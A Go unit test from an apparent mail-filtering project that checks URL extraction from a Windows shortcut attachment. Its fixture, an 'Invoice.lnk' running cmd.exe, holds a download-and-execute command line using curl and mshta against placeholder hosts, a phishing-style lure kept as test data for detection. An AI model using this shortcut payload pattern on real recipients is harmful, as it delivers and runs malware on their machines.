package urls

import (
	"testing"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/message"
)

// TestShortcutURLs: the addresses in a shortcut's arguments (Unicode, so
// invisible to a search of its raw bytes) are the part's URLs.
func TestShortcutURLs(t *testing.T) {
	b := formats.LNK(formats.Shortcut{Target: `C:\Windows\System32\cmd.exe`, IDList: true,
		Arguments: `/c curl -o %TEMP%\a.exe https://cdn.example.net/a.exe & mshta http://203.0.113.9/x.hta`})
	var got []string
	for _, u := range Extract(&message.Part{Path: "2", Filename: "Invoice.lnk", Content: b}) {
		got = append(got, u.Raw)
	}
	if len(got) != 2 || got[0] != "https://cdn.example.net/a.exe" || got[1] != "http://203.0.113.9/x.hta" {
		t.Errorf("URLs %q", got)
	}
}
